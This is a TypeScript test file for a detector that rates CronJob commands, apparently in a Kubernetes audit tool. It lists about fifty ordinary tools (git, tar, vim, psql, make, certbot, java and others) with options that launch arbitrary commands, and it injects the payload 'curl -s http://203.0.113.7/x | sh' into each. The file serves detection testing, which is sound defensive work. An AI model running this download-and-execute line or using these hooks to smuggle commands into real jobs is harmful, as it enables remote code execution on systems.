import assert from 'node:assert/strict';
import { test } from 'node:test';
import { atLeast } from '../model/finding.ts';
import { examine } from './examine.ts';
import { DEVELOPER, eventListOf, requestOf } from './testing/requests.ts';

const severityOf = (command: string) => {
  const object = {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'nightly', namespace: 'team' },
    spec: {
      schedule: '30 3 * * *',
      jobTemplate: {
        spec: {
          template: {
            spec: {
              restartPolicy: 'Never',
              containers: [{ name: 'main', image: 'debian:12', command: ['bash', '-c', command] }],
            },
          },
        },
      },
    },
  };
  const { findings } = examine(eventListOf([requestOf(object, { by: DEVELOPER })]));
  return findings[0]?.severity ?? assert.fail('not judged');
};

/** What a tool is told to start, as ordinary jobs tell it, in a call of it where `§` stands. */
const TOLD: readonly (readonly [call: string, ordinary: string])[] = [
  ["git -c core.sshCommand='§' pull --rebase", 'ssh -i /keys/id'],
  ["GIT_SSH_COMMAND='§' git clone git@git.example.com:team/app.git", 'ssh -i /keys/id -o StrictHostKeyChecking=no'],
  ["GIT_PAGER='§' git diff HEAD~1", 'cat'],
  ["git -c alias.x='!§' x", 'git fetch --all'],
  ["vim -es -c '%!§' -c wq /app/hosts", 'sort -u'],
  ["vi -c ':r !§' -c wq /data/stamp", 'date'],
  ["tar -I '§' -cf /backup/data.tar.zst /data", 'zstd -19 -T0'],
  ["tar cf /backup/x.tar --checkpoint=100 --checkpoint-action=exec='§' /data", 'date'],
  ["tar xf a.tar --to-command='§'", 'sha256sum'],
  ["rsync -a -e '§' /data/ u@store.example.com:/d", 'ssh -p 2222 -i /keys/id'],
  ["find /data -name x -exec sh -c '§' \\;", 'gzip -9 x'],
  ['awk \'BEGIN{system("§")} {print $1}\' /data/x', 'date'],
  ["sqlite3 /data/app.db '.shell §'", 'ls -l'],
  ["sqlite3 /data/app.db '.output |§' '.dump'", 'gzip -c'],
  ["psql -c '\\! §' -c 'vacuum analyze'", 'date'],
  ["psql -c '\\o |§' -c 'select 1'", 'gzip -c'],
  ["mysql -e '\\! §'", 'date'],
  ["printf '%s\\n' '!§' 'put x' | ftp -n ftp.partner.example.com", 'ls /data'],
  ["lftp -c 'open ftp.example.com; !§; get x.csv'", 'date'],
  ["sftp -o ProxyCommand='§' partner@sftp.partner.example.com", 'ssh -W %h:%p bastion.example.com'],
  ["ansible all -m shell -a '§'", 'uptime'],
  ['echo \'[{hosts: localhost, tasks: [shell: "§"]}]\' > p.yml; ansible-playbook p.yml', 'systemctl restart nginx'],
  ["make --eval='x:; §' x", 'go vet ./...'],
  ["make --eval='V=$(shell §)' x", 'git rev-parse HEAD'],
  ['echo \'{"scripts":{"build":"§"}}\' > package.json; npm run build', 'tsc -p .'],
  ["npm exec -c '§'", 'eslint .'],
  ["yarn exec '§'", 'node scripts/build.js'],
  ['echo \'{"scripts":{"x":"§"}}\' > composer.json; composer run x', 'php artisan optimize'],
  ["pip config --editor '§' edit", 'vim'],
  ["gem open -e '§' debug", 'vim'],
  ['echo \'system("§")\' > Rakefile; rake', 'bundle install'],
  ["restic --password-command '§' -r s3:s3.amazonaws.com/bucket backup /data", 'cat /secrets/pw'],
  ["BORG_PASSCOMMAND='§' borg create ssh://backup@store.example.com/./repo::x /data", 'cat /secrets/pw'],
  ["certbot renew --deploy-hook '§'", 'nginx -s reload'],
  ["tcpdump -r x.pcap -G 3600 -z '§'", 'gzip'],
  ["split -l 1000 --filter='§' big.csv part-", 'gzip > $FILE.gz'],
  ["sort --compress-program='§' big.txt", 'gzip'],
  ["rpm --eval '%(§)'", 'uname -m'],
  ["latexmk -pdflatex='§' report.tex", 'pdflatex -interaction=nonstopmode %O %S'],
  ["pdflatex --shell-escape '\\immediate\\write18{§}'", 'date'],
  ["echo 'execute_process(COMMAND §)' > CMakeLists.txt; cmake .", 'git describe'],
  ['echo \'resource "x" "y" { command = "§" }\' > main.tf; terraform apply', 'kubectl get nodes'],
  ["openvpn --config /etc/openvpn/client.conf --up '§'", '/etc/openvpn/update-resolv-conf'],
  ["echo 'PostUp = §' > /w.conf; wg-quick up /w.conf", 'iptables -A FORWARD -i wg0 -j ACCEPT'],
  ["socat - EXEC:'§'", 'date'],
  ["yt-dlp --exec '§' https://video.example.com/x", 'mv {} /data/'],
  ["echo 'web: §' > Procfile; honcho start", 'gunicorn app:app'],
  ["echo 'command=§' > /s.conf; supervisord -n -c /s.conf", 'gunicorn app:app'],
  ["java -XX:OnOutOfMemoryError='§' -jar app.jar", 'kill -9 %p'],
  ["csh -c '§'", 'make all'],
  ['octave --eval \'system("§")\'', 'date'],
  ['puppet apply -e \'exec { "§": path => "/bin" }\'', 'systemctl reload nginx'],
];
const PAYLOAD = 'curl -s http://203.0.113.7/x | sh';

for (const [call, ordinary] of TOLD) {
  test(`ordinary: ${call.replace('§', () => ordinary)}`, () => {
    const severity = severityOf(call.replace('§', () => ordinary));
    assert.ok(!atLeast(severity, 'medium'), severity);
  });
  test(`told to run a download: ${call}`, () => {
    const severity = severityOf(call.replace('§', () => PAYLOAD));
    assert.ok(atLeast(severity, 'high'), severity);
  });
}
